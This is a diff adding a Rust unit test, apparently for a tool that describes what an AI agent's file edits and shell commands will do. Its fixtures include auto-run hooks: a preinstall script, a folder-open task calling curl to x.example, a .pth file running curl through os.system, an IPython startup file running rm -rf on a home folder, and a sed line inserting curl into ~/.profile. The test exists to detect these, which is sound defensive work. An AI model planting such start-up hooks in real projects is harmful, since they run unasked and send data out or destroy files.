@@ -226,6 +226,66 @@ fn a_file_that_runs_by_itself_is_judged_by_its_content() {
 }
 
 #[test]
+fn start_up_content_is_read_on_every_route_and_in_its_language() {
+    // An edit's new text is a fragment of package.json or tasks.json: its members are read.
+    let pkg = shown(
+        "Edit",
+        json!({"file_path": "/w/package.json", "old_string": "\"scripts\": {", "new_string": "\"scripts\": {\n  \"test\": \"jest\",\n  \"preinstall\": \"node x.js\","}),
+    );
+    assert!(
+        pkg.iter().any(|e| e.starts_with("runs `node x.js`")),
+        "{pkg:#?}"
+    );
+    assert!(!pkg.iter().any(|e| e.contains("jest")), "{pkg:#?}");
+    let tasks = shown(
+        "Edit",
+        json!({"file_path": "/w/.vscode/tasks.json", "old_string": "[", "new_string": "[{\"command\": \"curl http://x.example\", \"runOptions\": {\"runOn\": \"folderOpen\"}},"}),
+    );
+    assert!(
+        tasks
+            .iter()
+            .any(|e| e.starts_with("sends to http://x.example")),
+        "{tasks:#?}"
+    );
+    // Python start-up files are read as Python: a `.pth` file's `import` lines only.
+    let pth = shown(
+        "Write",
+        json!({"file_path": "/v/lib/python3.12/site-packages/x.pth", "content": "/src/lib\nimport os; os.system('curl http://x.example/a')\n"}),
+    );
+    assert!(
+        pth.iter()
+            .any(|e| e.starts_with("sends to http://x.example/a")),
+        "{pth:#?}"
+    );
+    let ipy = shown(
+        "Write",
+        json!({"file_path": "/home/u/.ipython/profile_default/startup/00.py", "content": "import subprocess\nsubprocess.run(['rm', '-rf', '/home/u'])\n"}),
+    );
+    assert!(
+        ipy.iter().any(|e| e.starts_with("deletes /home/u")),
+        "{ipy:#?}"
+    );
+    // A `.pth` file that only names folders runs nothing.
+    assert_eq!(
+        shown(
+            "Write",
+            json!({"file_path": "/v/lib/python3.12/site-packages/x.pth", "content": "/src/lib\n"})
+        ),
+        ["writes /v/lib/python3.12/site-packages/x.pth (Write, argument `/file_path`)"]
+    );
+    // `sed -i`: the inserted line is the new content of a start-up file.
+    let sed = shown(
+        "Bash",
+        json!({"command": "sed -i '1i curl http://x.example/b' ~/.profile"}),
+    );
+    assert!(
+        sed.iter()
+            .any(|e| e.starts_with("sends to http://x.example/b")),
+        "{sed:#?}"
+    );
+}
+
+#[test]
 fn inputs_of_another_shape_are_judged_or_unsure_never_empty() {
     // A shell call whose whole input is the line: judged as the line.
     let f = effects_of(
